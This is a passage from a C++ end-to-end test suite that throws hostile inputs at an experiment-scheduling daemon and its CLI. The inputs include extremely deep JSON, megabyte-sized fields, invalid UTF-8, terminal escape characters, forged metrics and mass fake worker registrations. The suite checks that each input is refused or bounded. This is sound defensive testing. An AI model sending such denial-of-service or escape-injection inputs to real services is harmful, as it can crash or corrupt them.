      worker_->Send(Event(spec, 1, "summary", Summary("2.0")));
      worker_->Send(Finished(spec, "succeeded", 1));
      const int64_t id = spec.experiment_id();
      if (!worker_->WaitFor(
              [id](const auto& d) {
                return d.has_ack() && d.ack().finished() && d.ack().experiment_id() == id;
              },
              15, &m)) {
        return;
      }
    }
  }

  void ReopenWorker() {
    worker_.reset();
    worker_ = std::make_unique<WorkerSessionClient>(channel(), 600);
    worker_->Register(WorkerSessionClient::MakeRegister("fake-1", {kTrainer}), 10);
  }

  // The round of experiment `id` is decided once every run of it ended, a moment after the last
  // one: waits (up to 5 s) until `*e` (GetExperiment of `id`) carries the round's decision.
  void WaitRoundDecided(int64_t id, xv::v1::Experiment* e) {
    for (int i = 0; i < 50 && e->round_decision().empty(); ++i) {
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
      grpc::ClientContext g;
      Deadline(&g, 5);
      xv::v1::GetExperimentRequest gr;
      gr.set_id(id);
      if (!experiments()->GetExperiment(&g, gr, e).ok()) break;
    }
  }

  // Experiment `id` ends in `state` ("": any terminal state but succeeded) with its failure detail
  // naming `field` (unless ""), is not kept, and the campaign head did not move.
  void ExpectEnded(int64_t id, const std::string& state, const std::string& field, RowFindings* f) {
    xv::v1::Experiment e;
    std::string error;
    if (!WaitTerminal(id, 10, &e, &error)) {
      f->Hang(error);
      return;
    }
    if (state.empty() ? e.state() == "succeeded" : e.state() != state) {
      f->Wrong("experiment ended " + e.state() + " (" + e.failure_kind() + ": " +
               e.failure_detail().substr(0, 200) + "), want " +
               (state.empty() ? std::string("any end but succeeded") : state));
    }
    if (!field.empty() && e.failure_detail().find(field) == std::string::npos &&
        e.failure_kind().find(field) == std::string::npos) {
      f->Wrong("the failure detail does not name " + field + ": '" +
               e.failure_detail().substr(0, 200) + "'");
    }
    WaitRoundDecided(id, &e);
    if (e.decision() == "keep") f->Wrong("the run was kept");
    xv::v1::Campaign c;
    grpc::ClientContext ctx;
    Deadline(&ctx, 5);
    xv::v1::GetCampaignRequest req;
    req.set_name("ws");
    if (campaigns()->GetCampaign(&ctx, req, &c).ok() && c.head_recipe_hash() != head_hash_) {
      f->Wrong("the campaign head moved to the hostile run's config");
      head_hash_ = c.head_recipe_hash();
    }
  }

  std::unique_ptr<WorkerSessionClient> worker_;
  std::string head_hash_;
  int next_lr_ = 0;
  std::string NextLr() { return std::to_string(0.001 + 0.0001 * ++next_lr_); }
};

TEST_F(WorkerSessionTest, WorkerSessionRows) {
  group_ = "worker";
  StartDaemon({"--log-level", "warn", "--lease-ms", "120000", "--heartbeat-ms", "1000"});
  {
    grpc::ClientContext ctx;
    Deadline(&ctx, kCallSeconds);
    xv::v1::CreateCampaignRequest req;
    req.set_name("ws");
    req.set_base_recipe_yaml(base_recipe());
    req.set_trainer(kTrainer);
    req.set_policy(
        R"({"mode": "noise_band", "replicates": 1, "head_controls": 2, "min_effect": 0.01, "band_k": 2})");
    xv::v1::Campaign c;
    grpc::Status s = campaigns()->CreateCampaign(&ctx, req, &c);
    ASSERT_TRUE(s.ok()) << s.error_message() << Logs();
    head_hash_ = c.head_recipe_hash();
  }
  OpenWorker();
  // After a crash or a hang the daemon may be new: the fake worker opens a new session.
  WatchProcess(
      "fake worker session", [] { return true; }, [this] { ReopenWorker(); });
  // The control: a plausible result is believed (succeeded), so every refusal below is about
  // its input.
  {
    RowFindings f;
    const int64_t id = SubmitCandidate(NextLr(), &f);
    PlayUntilFinished(id, &f, [&](const auto& spec) {
      worker_->Send(Event(spec, 1, "summary", Summary("1.9")));
      worker_->Send(Finished(spec, "succeeded", 1));
    });
    PlayControls(3.0);  // the round's head controls
    xv::v1::Experiment e;
    std::string error;
    ASSERT_TRUE(WaitTerminal(id, 10, &e, &error)) << error << Logs();
    ASSERT_EQ(e.state(), "succeeded") << e.failure_detail() << Logs();
    ASSERT_TRUE(f.wrong.empty() && f.hang.empty()) << f.hang << Logs();
    WaitRoundDecided(id, &e);
    ASSERT_FALSE(e.round_decision().empty()) << "the control's round was not decided" << Logs();
    grpc::ClientContext ctx;
    Deadline(&ctx, 5);
    xv::v1::GetCampaignRequest req;
    req.set_name("ws");
    xv::v1::Campaign c;
    ASSERT_TRUE(campaigns()->GetCampaign(&ctx, req, &c).ok());
    head_hash_ = c.head_recipe_hash();  // the control may have been kept: that is its job
  }

  // Implausible results (issue 11 #9): the run ends `invalid` naming the field, never kept.
  struct ResultRow {
    std::string name;
    std::vector<std::pair<std::string, std::string>> events;  // type, json
    std::string field;
    std::string state = "invalid";
  };
  const std::vector<ResultRow> results = {
      {"summary val_bpb -3.5", {{"summary", Summary("-3.5")}}, "val_bpb"},
      {"summary val_bpb 0.0", {{"summary", Summary("0.0")}}, "val_bpb"},
      // `NaN` is how Python's json.dumps writes it; it is not JSON, so no daemon can read the
      // field out of it: the run must not succeed nor be kept (TrainerOutputRows' upstream
      // `val_bpb: nan` is the NaN that names its field).
      {"summary val_bpb NaN (Python's json.dumps, not JSON)",
       {{"summary", Summary("NaN")}},
       "",
       ""},
      {"summary val_bpb as a string", {{"summary", Summary("\"1.2\"")}}, "val_bpb"},
      {"summary val_bpb null (not measured)", {{"summary", Summary("null")}}, "val_bpb", ""},
      {"summary num_steps -1", {{"summary", Summary("1.9", R"(,"num_steps":-1)")}}, "num_steps"},
      {"summary total_tokens 1e300",
       {{"summary",
         R"({"type":"summary","val_bpb":1.9,"training_seconds":1,"total_seconds":2,"num_steps":30,"total_tokens":1e300})"}},
       "total_tokens"},
      {"summary total_tokens_M 1e300 (upstream's key)",
       {{"summary",
         R"({"type":"summary","val_bpb":1.9,"training_seconds":1,"total_seconds":2,"num_steps":30,"total_tokens_M":1e300})"}},
       "total_tokens"},
      {"step progress 1e9, then a plausible summary",
       {{"step", R"({"type":"step","t":0.5,"step":1,"loss":3.0,"progress":1e9})"},
        {"summary", Summary("1.9")}},
       "progress"},
  };
  for (const ResultRow& row : results) {
    RunRow(
        "Finished succeeded after " + row.name,
        [&](RowFindings* f) {
          const int64_t id = SubmitCandidate(NextLr(), f);
          if (id == 0) return;
          PlayUntilFinished(id, f, [&](const auto& spec) {
            int64_t seq = 0;
            for (const auto& [type, text] : row.events)
              worker_->Send(Event(spec, ++seq, type, text));
            worker_->Send(Finished(spec, "succeeded", seq));
          });
          ExpectEnded(id, row.state, row.field, f);
        },
        StoreCheck::kConsistent);
  }

  // Event fields that are deep or not strings (issue 11 #1: TextField's dump() recursed): the
  // event is survived, nothing stored holds a dump of it, the run still ends with its Finished.
  const std::string deep = NestedJsonArray(100000);
  struct EventRow {
    std::string name;
    std::string type;
    std::string json_text;
    std::string forbidden = "";  // text of the value that must not show up dumped
  };
  const std::vector<EventRow> events = {
      {"error event, message nested 100,000 deep", "error",
       R"({"type":"error","kind":"crashed","message":)" + deep + "}"},
      {"error event, kind nested 100,000 deep", "error",
       R"({"type":"error","kind":)" + deep + R"(,"message":"m"})"},
      {"error event, message an object", "error",
       R"({"type":"error","kind":"crashed","message":{"a":[1,2,{"b":null}]}})", R"("b":null)"},
      {"error event, kind of 100 KiB", "error",
       R"({"type":"error","kind":")" + std::string(100 * 1024, 'k') + R"(","message":"m"})"},
      {"error event, message of 1 MiB", "error",
       R"({"type":"error","kind":"crashed","message":")" + std::string(1 << 20, 'm') + "\"}"},
      {"start event, device.name nested 100,000 deep", "start",
       R"({"type":"start","device":{"name":)" + deep + "}}"},
      {"nan event, what nested 100,000 deep and value an object", "nan",
       R"({"type":"nan","step":1,"what":)" + deep + R"(,"value":{"x":1}})"},
      {"event type of 100 KiB", std::string(100 * 1024, 't'), R"({"type":"log","m":1})"},
      {"event JSON of 3 MB nested 1,500,000 deep", "error",
       R"({"type":"error","kind":"crashed","message":)" + NestedJsonArray(1500000) + "}"},
  };
  for (const EventRow& row : events) {
    RunRow(
        row.name,
        [&](RowFindings* f) {
          const int64_t id = SubmitCandidate(NextLr(), f);
          if (id == 0) return;
          PlayUntilFinished(id, f, [&](const auto& spec) {
            worker_->Send(Event(spec, 1, row.type, row.json_text));
            worker_->Send(Finished(spec, "failed", 1));
          });
          xv::v1::Experiment e;
          std::string error;
          if (!WaitTerminal(id, 10, &e, &error)) {
            f->Hang(error);
            return;
          }
          if (e.state() == "succeeded") f->Wrong("the run succeeded");
          ExpectBoundedText(f, "failure_kind", e.failure_kind(), kKindLimit);
          ExpectBoundedText(f, "failure_detail", e.failure_detail(), kDetailLimit);
          ExpectBoundedText(f, "device_name", e.device_name(), kNameLimit);
          if (!row.forbidden.empty() &&
              (e.failure_detail() + e.failure_kind()).find(row.forbidden) != std::string::npos) {
            f->Wrong("the failure holds a dump of the value: '" +
                     e.failure_detail().substr(0, 200) + "'");
          }
          e2e::DatabaseFile db(sb_.database_path());
          const std::string id_text = std::to_string(id);
          for (const auto& r : db.Rows("SELECT COALESCE(what, ''), COALESCE(value, '') FROM "
                                       "nan_events WHERE experiment_id = " +
                                       id_text)) {
            ExpectBoundedText(f, "nan_events.what", r[0], kNameLimit);
            ExpectBoundedText(f, "nan_events.value", r[1], kNameLimit);
          }
          const int64_t longest_type = db.Int(
              "SELECT COALESCE(MAX(LENGTH(CAST(type AS BLOB))), 0) FROM events WHERE "
              "experiment_id = " +
              id_text);
          if (longest_type > static_cast<int64_t>(kKindLimit)) {
            f->Wrong("an event type of " + std::to_string(longest_type) + " bytes was stored");
          }
        },
        StoreCheck::kConsistent);
  }

  // Over-long and invalid text in a Finished (issue 11 #3, #5): stored bounded and valid, or the
  // session refused naming the field; never a run stuck `assigned`.
  struct FinishedRow {
    std::string name;
    std::function<void(xv::v1::Finished*)> edit;
  };
  const std::vector<FinishedRow> finished_rows = {
      {"Finished failure_kind of 100 KiB",
       [](auto* fin) { fin->set_failure_kind(std::string(100 * 1024, 'k')); }},
      {"Finished failure_detail of 1 MiB",
       [](auto* fin) { fin->set_failure_detail(std::string(1 << 20, 'd')); }},
      {"Finished stderr_tail of 1 MiB of é, odd-length",
       [](auto* fin) { fin->set_stderr_tail("x" + Repeat("\xc3\xa9", 512 * 1024)); }},
      {"Finished stderr_tail with invalid UTF-8",
       [](auto* fin) { fin->set_stderr_tail("Traceback:\n\xff\xfe\n"); }},
      {"Finished state of 1 MiB", [](auto* fin) { fin->set_state(std::string(1 << 20, 's')); }},
      {"Finished state \"pwned\"", [](auto* fin) { fin->set_state("pwned"); }},
      {"Finished failure_detail holding ESC, BEL",
       [](auto* fin) { fin->set_failure_detail("boom" + kTerminalEscapes); }},
  };
  for (const FinishedRow& row : finished_rows) {
    RunRow(
        row.name,
        [&](RowFindings* f) {
          const int64_t id = SubmitCandidate(NextLr(), f);
          if (id == 0) return;
          grpc::Status session_end;
          PlayUntilFinished(id, f, [&](const auto& spec) {
            xv::v1::WorkerMessage m = Finished(spec, "failed", 0);
            row.edit(m.mutable_finished());
            worker_->Send(m);
          });
          xv::v1::Experiment e;
          std::string error;
          if (!WaitTerminal(id, 10, &e, &error)) {
            f->Hang(error);
            return;
          }
          if (e.state() == "succeeded") f->Wrong("the run succeeded");
          ExpectBoundedText(f, "failure_kind", e.failure_kind(), kKindLimit);
          ExpectBoundedText(f, "failure_detail", e.failure_detail(), kDetailLimit);
          ExpectBoundedText(f, "stderr_tail", e.stderr_tail(), kDetailLimit);
          // A stored string must not poison listings (issue 11 #4).
          grpc::ClientContext ctx;
          Deadline(&ctx, kCallSeconds);
          xv::v1::ListExperimentsRequest lr;
          lr.set_campaign("ws");
          lr.set_limit(1000);
          xv::v1::ListExperimentsResponse resp;
          f->ExpectOk("ListExperiments of the campaign",
                      experiments()->ListExperiments(&ctx, lr, &resp));
        },
        StoreCheck::kConsistent);
  }

  // A late Finished after success (issue 11 #10): recorded, not applied.
  RunRow(
      "a second Finished (failed) after success",
      [&](RowFindings* f) {
        const int64_t id = SubmitCandidate(NextLr(), f);
        if (id == 0) return;
        xv::v1::ExperimentSpec held;
        // val_bpb equal to the controls' (PlayControls: 2.0): the run is believed and not kept,
        // so a head move or a keep below can only come from the late Finished. (Since issue 14 the
        // round's controls run fresh at 2.0; a better value would be kept on its merits.)
        PlayUntilFinished(id, f, [&](const auto& spec) {
          held = spec;
          worker_->Send(Event(spec, 1, "summary", Summary("2.0")));
          worker_->Send(Finished(spec, "succeeded", 1));
        });
        if (!f->hang.empty()) return;
        const std::string attempt_sql =
            "SELECT state, COALESCE(exit_code, ''), COALESCE(failure_kind, ''), "
            "COALESCE(stderr_tail, ''), COALESCE(finished_at, '') FROM attempts WHERE "
            "experiment_id = " +
            std::to_string(id) + " AND attempt = " + std::to_string(held.attempt());
        const auto before = e2e::DatabaseFile(sb_.database_path()).Rows(attempt_sql);
        xv::v1::WorkerMessage late = Finished(held, "failed", 1);
        late.mutable_finished()->set_stderr_tail("late failure");
        worker_->Send(late);
        xv::v1::DaemonMessage m;
        worker_->WaitFor([](const auto& d) { return d.has_ack() && d.ack().finished(); }, 3, &m);
        const auto after = e2e::DatabaseFile(sb_.database_path()).Rows(attempt_sql);
        if (before != after) f->Wrong("the attempt row changed after the late Finished");
        ExpectEnded(id, "succeeded", "", f);
      },
      StoreCheck::kConsistent);
  RunRow(
      "a Finished for an experiment this worker never held",
      [&](RowFindings* f) {
        xv::v1::ExperimentSpec spec;
        spec.set_experiment_id(1);  // the control's, finished above
        spec.set_attempt(7);
        worker_->Send(Finished(spec, "failed", 0));
        xv::v1::DaemonMessage m;
        worker_->WaitFor([](const auto& d) { return d.has_ack() && d.ack().finished(); }, 3, &m);
        xv::v1::Experiment e;
        std::string error;
        if (WaitTerminal(1, 5, &e, &error) && e.state() != "succeeded") {
          f->Wrong("experiment 1 is now " + e.state());
        }
      },
      StoreCheck::kUnchanged);

  // Register messages: over-long and control-character fields, a deep probe. A name the daemon
  // must refuse (the worker's own name, its trainers' names); other device text may instead be
  // taken cut to its limit: then what Status serves is bounded and `xvctl workers --json` and
  // `xvctl status` still work.
  struct RegisterRow {
    std::string name;
    std::function<void(xv::v1::Register*)> edit;
    std::string field;
    bool must_refuse;
  };
  const std::vector<RegisterRow> registers = {
      {"Register worker_name holding ESC, BEL",
       [](auto* r) { r->set_worker_name("w" + kTerminalEscapes); }, "register.worker_name", true},
      {"Register worker_name of 1 MiB",
       [](auto* r) { r->set_worker_name(std::string(1 << 20, 'w')); }, "register.worker_name",
       true},
      {"Register a trainer name of 100 KiB",
       [](auto* r) { r->mutable_capabilities()->add_trainers(std::string(100 * 1024, 't')); },
       "register.capabilities.trainers", true},
      {"Register device.name of 1 MiB",
       [](auto* r) { r->mutable_device()->set_name(std::string(1 << 20, 'd')); },
       "register.device.name", false},
      {"Register device.env_knobs value of 1 MiB",
       [](auto* r) {
         (*r->mutable_device()->mutable_env_knobs())["OMP_NUM_THREADS"] = std::string(1 << 20, '8');
       },
       "register.device.env_knobs", false},
      {"Register device.env_knobs with 10,000 keys",
       [](auto* r) {
         for (int i = 0; i < 10000; ++i) {
           (*r->mutable_device()->mutable_env_knobs())["K" + std::to_string(i)] = "v";
         }
       },
       "register.device.env_knobs", false},
      {"Register probe_json nested 30,000 deep",
       [](auto* r) { r->set_probe_json(R"({"matmul":)" + NestedJsonArray(30000) + "}"); },
       "register.probe_json", false},
  };
  for (const RegisterRow& row : registers) {
    RunRow(
        row.name,
        [&](RowFindings* f) {
          WorkerSessionClient session(channel(), 30);
          xv::v1::Register reg = WorkerSessionClient::MakeRegister("reg-row", {"none"});
          row.edit(&reg);
          if (!session.Register(reg, 10)) {
            f->ExpectRefusal("the session", session.WaitForEnd(10), StatusCode::INVALID_ARGUMENT,
                             row.field);
            return;
          }
          if (row.must_refuse) f->Wrong("registered");
          xv::v1::StatusResponse st;
          f->ExpectOk("Status", ProbeStatus(&st));
          for (const auto& w : st.workers()) {
            ExpectBoundedText(f, "a worker name", w.name(), kNameLimit);
            ExpectBoundedText(f, "device.name", w.device().name(), kNameLimit);
            size_t knob_bytes = 0;
            for (const auto& [k, v] : w.device().env_knobs()) knob_bytes += k.size() + v.size();
            if (knob_bytes > 64 * 1024) {
              f->Wrong("device.env_knobs served as " + std::to_string(knob_bytes) + " bytes");
            }
          }
          const int64_t device_json = e2e::DatabaseFile(sb_.database_path())
                                          .Int(
                                              "SELECT COALESCE(MAX(LENGTH(CAST(device_json AS "
                                              "BLOB)) + LENGTH(CAST(capabilities_json AS BLOB))), "
                                              "0) FROM workers WHERE name = 'reg-row'");
          if (device_json > 64 * 1024) {
            f->Wrong("the worker's device and capabilities stored as " +
                     std::to_string(device_json) + " bytes");
          }
          for (const char* cmd : {"workers", "status"}) {
            e2e::CommandResult r = sb_.Xvctl({cmd, "--json"}, 30);
            if (r.err.find("[harness: killed after") != std::string::npos) {
              f->Hang(std::string("xvctl ") + cmd + " --json: no exit within 30 s");
            } else if (r.exit_code != 0 || json::parse(r.out, nullptr, false).is_discarded()) {
              f->Wrong(std::string("xvctl ") + cmd + " --json exited " +
                       std::to_string(r.exit_code) + ": " + r.err.substr(0, 200));
            }
          }
          session.Close(5);
        },
        StoreCheck::kConsistent);
  }

  // max_concurrent 1000 (issue 11 #11: taken as is, it took the whole queue).
  RunRow(
      "Register max_concurrent 1000, then 100 experiments queued for it",
      [&](RowFindings* f) {
        WorkerSessionClient greedy(channel(), 120);
        if (!greedy.Register(WorkerSessionClient::MakeRegister("greedy", {"greedy"}, 1000), 10)) {
          // A refusal naming the field is fine too.
          f->ExpectRefusal("the session", greedy.WaitForEnd(10), StatusCode::INVALID_ARGUMENT,
                           "register.capabilities.max_concurrent");
          return;
        }
        xv::v1::SubmitRequest req = BaseSubmit(base_recipe(), "greedy");
        req.set_trainer("greedy");
        AddCandidate(&req, "matrix_lr", "0.031");
        AddCandidate(&req, "matrix_lr", "0.032");
        req.set_replicates(50);
        grpc::ClientContext ctx;
        Deadline(&ctx, kCallSeconds);
        xv::v1::SubmitResponse resp;
        f->ExpectOk("submit", experiments()->Submit(&ctx, req, &resp));
        int assigned = 0;
        xv::v1::DaemonMessage m;
        while (greedy.WaitFor([](const auto& d) { return d.has_assign(); }, 3, &m)) ++assigned;
        std::printf("[hostile]          max_concurrent 1000: %d of 100 assigned at once\n",
                    assigned);
        if (assigned > kMaxConcurrentCapAtMost) {
          f->Wrong(std::to_string(assigned) + " experiments assigned at once (cap at most " +
                   std::to_string(kMaxConcurrentCapAtMost) + ")");
        }
        greedy.Close(5);
      },
      StoreCheck::kConsistent);

  // Hundreds of made-up worker names (issue 11 #11: their rows lived forever).
  RunRow(
      "300 sessions under made-up worker names",
      [&](RowFindings* f) {
        std::atomic<int> next{0}, registered{0}, limited{0}, hung{0};
        std::vector<std::thread> threads;
        for (int t = 0; t < 4; ++t) {
          threads.emplace_back([&] {
            for (int i = next++; i < 300; i = next++) {
              WorkerSessionClient s(channel(), 20);
              if (s.Register(
                      WorkerSessionClient::MakeRegister("made-up-" + std::to_string(i), {"none"}),
                      10)) {
                ++registered;
                s.Close(5);
                continue;
              }
              grpc::Status end = s.WaitForEnd(5);
              if (end.error_code() == StatusCode::RESOURCE_EXHAUSTED) ++limited;
              if (end.error_code() == StatusCode::DEADLINE_EXCEEDED) ++hung;
            }
          });
        }
        for (auto& t : threads) t.join();
        // Their rows must not live forever: aged past any reasonable horizon (2 days offline,
        // never ran anything), the next registration must find them forgotten.
        e2e::DatabaseFile(sb_.database_path(), /*writable=*/true)
            .Rows(
                "UPDATE workers SET last_heartbeat = strftime('%Y-%m-%dT%H:%M:%fZ', 'now', "
                "'-48 hours'), registered_at = strftime('%Y-%m-%dT%H:%M:%fZ', 'now', "
                "'-48 hours') WHERE name LIKE 'made-up-%'");
        {
          WorkerSessionClient s(channel(), 20);
          if (s.Register(WorkerSessionClient::MakeRegister("made-up-after", {"none"}), 10)) {
            s.Close(5);
          }
        }
        const int64_t rows = e2e::DatabaseFile(sb_.database_path())
                                 .Int("SELECT COUNT(*) FROM workers WHERE name LIKE 'made-up-%'");
        std::printf(
            "[hostile]          300 made-up workers: %d registered, %d refused, %ld rows left "
            "after aging them 2 days\n",
            registered.load(), limited.load(), static_cast<long>(rows));
        if (hung > 0) f->Hang(std::to_string(hung.load()) + " registrations got no answer");
        if (limited == 0 && rows > 1) {
          f->Wrong("all 300 made-up workers registered and " + std::to_string(rows) +
                   " of their rows still kept 2 days offline");
        }
        xv::v1::StatusResponse st;
        grpc::Status s = ProbeStatus(&st);
        f->ExpectOk("Status with the made-up workers", s);
      },
      StoreCheck::kConsistent);
  worker_.reset();
}

// ---- Trainer output rows (a real xv-worker, `command` trainers) ---------------------------------

struct TrainerRow {
  std::string mode;   // odd_trainer.sh's argument, also the trainer and campaign name suffix
  std::string name;   // the row
  std::string state;  // the terminal state it must reach ("" = any but succeeded)
  std::string field;  // what the failure detail must name ("" = a failure kind is enough)
};

const std::vector<TrainerRow>& TrainerRows() {
  static const auto* rows = new std::vector<TrainerRow>{
      {"stderr-invalid-utf8", "stderr b\"\\xff\\xfe\", exit 1", "failed", ""},
      {"stderr-long-eacute", "stderr line of 18,001 bytes of é, exit 1", "failed", ""},
      {"error-3mb-nested", "a 3 MB error event line nested 1,500,000 deep, exit 1", "failed", ""},
      {"control-chars", "ESC, BEL, CR, LF, C1 in event text and stderr, exit 1", "failed", ""},
      {"summary-negative", "summary val_bpb -3.5", "invalid", "val_bpb"},
      {"summary-zero", "summary val_bpb 0.0", "invalid", "val_bpb"},
      {"summary-huge-tokens", "summary total_tokens 1e300", "invalid", "total_tokens"},
      {"summary-progress", "step progress 1e9", "invalid", "progress"},
      {"upstream-nan", "upstream block val_bpb: nan", "", "val_bpb"},
      {"upstream-huge-tokens", "upstream block total_tokens_M: 1e300", "invalid", "total_tokens"},
  };
  return *rows;
}

class TrainerOutputTest : public HostileFixture {
 protected:
  // A fresh worker (name odd-N, its own work dir) with every odd_trainer.sh mode as a trainer.
  void StartWorker() {
    if (worker_.pid() > 0) worker_.Stop(2);
    const std::string name = "odd-" + std::to_string(++workers_started_);
    worker_ = sb_.StartFakeWorker(
        name, {}, {"--config", config_, "--no-probe", "--kill-grace", "1"}, "worker.log");
  }

  void WriteConfig() {
    config_ = sb_.Path("worker.yaml");
    std::ofstream out(config_);
    out << "trainers:\n";
    std::vector<std::string> modes = {"ok"};
    for (const TrainerRow& r : TrainerRows()) modes.push_back(r.mode);
    for (const std::string& m : modes) {
      out << "  - name: odd-" << m
          << "\n    kind: command\n    program: " << e2e::SourcePath("tests/hostile/odd_trainer.sh")
          << "\n    args: [" << m << "]\n    output: auto\n";
    }
  }

  void CancelUnfinished() {
    for (const char* state : {"queued", "assigned", "running"}) {
      grpc::ClientContext ctx;
      Deadline(&ctx, 5);
      xv::v1::ListExperimentsRequest req;
      req.set_state(state);
      req.set_limit(1000);
      xv::v1::ListExperimentsResponse resp;
      if (!experiments()->ListExperiments(&ctx, req, &resp).ok()) continue;
      for (const auto& e : resp.experiments()) {
        grpc::ClientContext c;
        Deadline(&c, 5);
        xv::v1::CancelRequest cr;
        cr.set_experiment_id(e.id());
        xv::v1::CancelResponse cresp;
        experiments()->Cancel(&c, cr, &cresp);
      }
    }
  }

  // Submits one run of trainer odd-<mode> in campaign t-<mode>; its id (0 on failure, in *f).
  int64_t SubmitRun(const std::string& mode, RowFindings* f) {
    xv::v1::SubmitRequest req = BaseSubmit(base_recipe(), "t-" + mode);
    req.set_trainer("odd-" + mode);
    grpc::ClientContext ctx;
    Deadline(&ctx, kCallSeconds);
    xv::v1::SubmitResponse resp;
    grpc::Status s = experiments()->Submit(&ctx, req, &resp);
    f->ExpectOk("submit", s);
    return s.ok() && resp.experiment_ids_size() == 1 ? resp.experiment_ids(0) : 0;
  }

  // xvctl `args` must exit 0 within 30 s, print no raw control characters, and (json) parse.
  void ExpectCleanCli(RowFindings* f, const std::vector<std::string>& args, bool json_lines) {
    std::string shown = "xvctl";
    for (const auto& a : args) shown += " " + a;
    e2e::CommandResult r = sb_.Xvctl(args, 30);
    if (r.err.find("[harness: killed after") != std::string::npos) {
      f->Hang(shown + ": no exit within 30 s");
      return;
    }
    if (r.exit_code != 0) {
      f->Wrong(shown + " exited " + std::to_string(r.exit_code) + ": " + r.err.substr(0, 300));
    }
    const std::string raw = RawControlCharacters(r.out);
    if (!raw.empty()) f->Wrong(shown + " printed raw control characters: " + raw);
    const std::string raw_err = RawControlCharacters(r.err);
    if (!raw_err.empty()) f->Wrong(shown + " printed raw control characters on stderr: " + raw_err);
    if (json_lines && r.exit_code == 0) {
      json j = json::parse(r.out, nullptr, false);
      if (j.is_discarded()) {
        // One JSON object per line (watch --json).
        size_t start = 0;
        while (start < r.out.size()) {
          size_t nl = r.out.find('\n', start);
          if (nl == std::string::npos) nl = r.out.size();
          const std::string line = r.out.substr(start, nl - start);
          if (!line.empty() && json::parse(line, nullptr, false).is_discarded()) {
            f->Wrong(shown + " printed a line that is not JSON");
            break;
          }
          start = nl + 1;
        }
      }
    }
  }

  std::string config_;
  e2e::ChildGuard worker_;
  int workers_started_ = 0;
};

TEST_F(TrainerOutputTest, TrainerOutputRows) {
  group_ = "trainer";
  logs_.push_back("worker.log");
  StartDaemon({"--log-level", "warn", "--lease-ms", "10000", "--heartbeat-ms", "500"});
  WriteConfig();
  StartWorker();
  // After a crash or a hang: the unfinished runs are cancelled (a requeued odd run must not
  // strike again in a later row) and a fresh worker (new name, new work dir: no spool to replay)
  // takes over.
  WatchProcess(
      "xv-worker", [this] { return worker_.Alive(); },
      [this] {
        CancelUnfinished();
        StartWorker();
      });
  // The control: a plausible command trainer run succeeds, so each row's ending is about its
  // output.
  {
    RowFindings f;
    const int64_t id = SubmitRun("ok", &f);
    ASSERT_NE(id, 0) << (f.wrong.empty() ? "" : f.wrong[0]) << Logs();
    xv::v1::Experiment e;
    std::string error;
    ASSERT_TRUE(WaitTerminal(id, 60, &e, &error)) << error << Logs();
    ASSERT_EQ(e.state(), "succeeded") << e.failure_kind() << ": " << e.failure_detail() << Logs();
  }

  int64_t control_chars_id = 0;
  for (const TrainerRow& row : TrainerRows()) {
    RunRow(
        row.name,
        [&](RowFindings* f) {
          const int64_t id = SubmitRun(row.mode, f);
          if (id == 0) return;
          if (row.mode == "control-chars") control_chars_id = id;
          xv::v1::Experiment e;
          std::string error;
          if (!WaitTerminal(id, 30, &e, &error)) {
            f->Hang(error);
            return;
          }
          if (!row.state.empty() && e.state() != row.state) {
            f->Wrong("ended " + e.state() + " (" + e.failure_kind() + ": " +
                     e.failure_detail().substr(0, 200) + "), want " + row.state);
          }
          if (e.state() == "succeeded") f->Wrong("the run succeeded");
          if (e.failure_kind().empty() && e.failure_detail().empty()) {
            f->Wrong("ended " + e.state() + " without a reason");
          }
          if (!row.field.empty() && e.failure_detail().find(row.field) == std::string::npos) {
            f->Wrong("the failure detail does not name " + row.field + ": '" +
                     e.failure_detail().substr(0, 200) + "'");
          }
          ExpectBoundedText(f, "failure_detail", e.failure_detail(), kDetailLimit);
          ExpectBoundedText(f, "stderr_tail", e.stderr_tail(), kDetailLimit);
          // Listings still work for everyone (issue 11 #4).
          grpc::ClientContext ctx;
          Deadline(&ctx, kCallSeconds);
          xv::v1::ListExperimentsRequest lr;
          lr.set_limit(1000);
          xv::v1::ListExperimentsResponse resp;
          f->ExpectOk("ListExperiments", experiments()->ListExperiments(&ctx, lr, &resp));
          e2e::CommandResult table = sb_.Xvctl({"results"}, 30);
          if (table.exit_code != 0) {
            f->Wrong("xvctl results exited " + std::to_string(table.exit_code) + ": " +
                     table.err.substr(0, 300));
          }
          e2e::CommandResult js = sb_.Xvctl({"results", "--json"}, 30);
          if (js.exit_code != 0 || json::parse(js.out, nullptr, false).is_discarded()) {
            f->Wrong("xvctl results --json exited " + std::to_string(js.exit_code) +
                     " or printed no JSON: " + js.err.substr(0, 300));
          }
        },
        StoreCheck::kConsistent);
  }

  // The 3 MB line again after a daemon restart (issue 11 #2: a spooled record crash-looped xvd).
  RunRow(
      "xvd restarted after the odd runs stays up while the worker reconnects",
      [&](RowFindings* f) {
        xvd_.Stop();
        if (!sb_.StartDaemon(
                &xvd_, {"--log-level", "warn", "--lease-ms", "10000", "--heartbeat-ms", "500"})) {
          f->Wrong("xvd did not start again");
          return;
        }
        std::this_thread::sleep_for(std::chrono::seconds(4));  // the worker's reconnect and replay
        const int64_t id = SubmitRun("ok", f);
        xv::v1::Experiment e;
        std::string error;
        if (id != 0 && !WaitTerminal(id, 30, &e, &error)) f->Hang(error);
      },
      StoreCheck::kConsistent);

  // CLI output rows (issue 11 #7): daemon text with control characters is never printed raw.
  const std::string exp_id = std::to_string(control_chars_id);
  RunRow("xvctl results prints no raw control characters",
         [&](RowFindings* f) { ExpectCleanCli(f, {"results"}, false); });
  RunRow("xvctl results --json prints no raw control characters", [&](RowFindings* f) {
    ExpectCleanCli(f, {"results", "--json"}, true);
  });
  RunRow("xvctl campaign show prints no raw control characters", [&](RowFindings* f) {
    ExpectCleanCli(f, {"campaign", "show", "t-control-chars"}, false);
  });
  RunRow("xvctl watch --since 0 --until-idle prints no raw control characters",
         [&](RowFindings* f) {
           ExpectCleanCli(f, {"watch", "--since", "0", "--until-idle"}, false);
         });
  RunRow("xvctl watch --json prints no raw control characters", [&](RowFindings* f) {
    ExpectCleanCli(f, {"watch", "--since", "0", "--until-idle", "--json"}, true);
  });
  RunRow(
      "a campaign and a candidate named with ESC, BEL: refused, or never printed raw",
      [&](RowFindings* f) {
        xv::v1::CreateCampaignRequest req;
        req.set_name("esc" + kTerminalEscapes);
        req.set_base_recipe_yaml(base_recipe());
        req.set_trainer("odd-ok");
        grpc::ClientContext ctx;
        Deadline(&ctx, kCallSeconds);
        xv::v1::Campaign c;
        grpc::Status s = campaigns()->CreateCampaign(&ctx, req, &c);
        xv::v1::SubmitRequest sub = BaseSubmit(base_recipe(), "t-ok");
